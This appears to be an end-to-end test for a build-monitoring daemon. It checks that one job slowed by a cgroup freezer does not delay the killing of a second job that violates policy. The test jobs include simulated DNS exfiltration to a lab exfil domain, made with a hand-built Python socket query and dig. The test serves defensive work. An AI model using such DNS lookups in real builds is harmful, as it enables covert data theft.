using System.Text.Json;
using BuildSentry.Testing;
using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// The wait for a killed job's processes to exit runs off the monitor's lock: a job that is slow to die holds up no
/// other job. Job A's process is frozen (cgroup v1 freezer: a frozen task takes no signal, SIGKILL included, until it
/// is thawed), so A's kill waits the enforcer's full half second for it; job B violates meanwhile and must be killed
/// before A's wait ends.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class SlowKillTests(NetworkLabFixture fixture)
{
    private const string FreezerRoot = "/sys/fs/cgroup/freezer";

    private NetworkLab Lab => fixture.Lab;

    [Fact]
    public async Task While_one_job_is_slow_to_die_a_second_jobs_violation_is_still_detected_and_killed_at_once()
    {
        Requirements.Root();
        if (!Directory.Exists(FreezerRoot))
        {
            throw new RequirementNotMetException($"the cgroup v1 freezer is not mounted at {FreezerRoot}");
        }

        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        var freezer = Path.Combine(FreezerRoot, $"bs-e2e-{Random.Shared.Next(100_000, 999_999)}");
        Directory.CreateDirectory(freezer);
        var work = Directory.CreateTempSubdirectory("bs-slowkill-").FullName;
        var pidFile = Path.Combine(work, "pid");
        var fifo = Path.Combine(work, "a-alive");
        var go = Path.Combine(work, "go");
        try
        {
            // B is started (and placed) first, so that only its violation, not its start, falls in A's wait. Its
            // query leaves the instant A's processes die in A's kill: it reads a FIFO that only they hold open for
            // writing (not the frozen sleep), so nothing on the test's side (the alert's delivery, a poll, a program's
            // start on a loaded machine) stands between the two. It waits for its answer, as dig does: the forwarder
            // finds the job from the asking socket.
            using var fast = BuildJob.Start(Lab, $"""
                python3 - {fifo} fast{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain} {NetworkLab.ResolverAddress} <<'PY'
                import os, random, socket, struct, sys, time
                while not os.path.exists(sys.argv[1]):
                    time.sleep(0.01)
                open(sys.argv[1], "rb").read()
                name = b"".join(bytes([len(label)]) + label.encode() for label in sys.argv[2].split(".")) + b"\0"
                query = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
                asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                asker.settimeout(10)
                asker.sendto(query, (sys.argv[3], 53))
                asker.recv(512)
                PY
                sleep 30
                """);
            using var slow = BuildJob.Start(Lab, $"""
                sleep 120 & echo $! > {pidFile}
                mkfifo {fifo}.new && mv {fifo}.new {fifo} && exec 7>{fifo}
                while [ ! -e {go} ]; do sleep 0.02; done
                dig +short +tries=1 slow{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain} > /dev/null
                sleep 60
                """);
            var frozen = await ReadPidAsync(pidFile);
            await File.WriteAllTextAsync(Path.Combine(freezer, "cgroup.procs"), frozen.ToString(System.Globalization.CultureInfo.InvariantCulture));
            await FreezeAsync(freezer);
            await File.WriteAllTextAsync(go, "");
            await daemon.WaitForAlertAsync(a => Str(a, "job") == slow.JobId && Str(a, "action") == "killed");

            var result = await fast.WaitAsync(TimeSpan.FromSeconds(30));
            Assert.Equal(137, result.ExitCode);
            var fastReport = await ReportAsync(daemon, fast.JobId);

            // A's frozen process dies only when thawed: A then ends and its report says its wait gave up.
            await File.WriteAllTextAsync(Path.Combine(freezer, "freezer.state"), "THAWED");
            await slow.WaitAsync(TimeSpan.FromSeconds(30));
            var slowReport = await ReportAsync(daemon, slow.JobId);

            var slowKill = slowReport.GetProperty("kill");
            var fastKill = fastReport.GetProperty("kill");
            Assert.Contains("still has live processes after 500 ms", slowKill.GetProperty("method").GetString(), StringComparison.Ordinal);
            var slowWaitEnded = slowKill.GetProperty("completed").GetDateTimeOffset();
            var fastKilledAt = fastKill.GetProperty("at").GetDateTimeOffset();
            var fastViolation = fastReport.GetProperty("violations")[0].GetProperty("time").GetDateTimeOffset();
            // Held behind A's wait, B's kill would come after it ended.
            Assert.True(fastKilledAt < slowWaitEnded, $"B killed at {fastKilledAt:O}, A's wait ended at {slowWaitEnded:O}");
            Assert.True(fastKilledAt >= slowKill.GetProperty("at").GetDateTimeOffset(), "B was killed while A's wait was under way");
            Assert.Contains("all gone", fastKill.GetProperty("method").GetString(), StringComparison.Ordinal);
            Console.WriteLine($"second job's kill: {(fastKilledAt - fastViolation).TotalMilliseconds:0.00} ms from its violation; "
                              + $"the first job's wait ran {(slowWaitEnded - slowKill.GetProperty("at").GetDateTimeOffset()).TotalMilliseconds:0} ms");
        }
        finally
        {
            await File.WriteAllTextAsync(Path.Combine(freezer, "freezer.state"), "THAWED");
            foreach (var pid in File.ReadAllLines(Path.Combine(freezer, "cgroup.procs")))
            {
                Syscall.Kill(int.Parse(pid, System.Globalization.CultureInfo.InvariantCulture));
            }

            await WaitEmptyAsync(freezer);
            Directory.Delete(freezer);
            Directory.Delete(work, recursive: true);
        }
    }

    /// <summary>A task still FREEZING dies of a SIGKILL; only a FROZEN one waits for its thaw.</summary>
    private static async Task FreezeAsync(string freezer)
    {
        await File.WriteAllTextAsync(Path.Combine(freezer, "freezer.state"), "FROZEN");
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(10);
        while ((await File.ReadAllTextAsync(Path.Combine(freezer, "freezer.state"))).Trim() != "FROZEN")
        {
            if (DateTime.UtcNow > deadline)
            {
                throw new TimeoutException($"{freezer} did not reach FROZEN");
            }

            await Task.Delay(10);
        }
    }

    private static async Task<int> ReadPidAsync(string path)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(20);
        while (DateTime.UtcNow < deadline)
        {
            if (File.Exists(path) && int.TryParse((await File.ReadAllTextAsync(path)).Trim(), out var pid))
            {
                return pid;
            }

            await Task.Delay(20);
        }

        throw new TimeoutException($"no pid in {path}");
    }

    private static async Task<JsonElement> ReportAsync(DaemonProcess daemon, string jobId)
    {
        var path = Path.Combine(daemon.ReportsDirectory, jobId + ".json");
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(20);
        while (!File.Exists(path) && DateTime.UtcNow < deadline)
        {
            await Task.Delay(50);
        }

        return JsonDocument.Parse(await File.ReadAllTextAsync(path)).RootElement;
    }

    private static async Task WaitEmptyAsync(string cgroup)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(10);
        while (File.ReadAllText(Path.Combine(cgroup, "cgroup.procs")).Trim().Length > 0 && DateTime.UtcNow < deadline)
        {
            await Task.Delay(20);
        }
    }
}
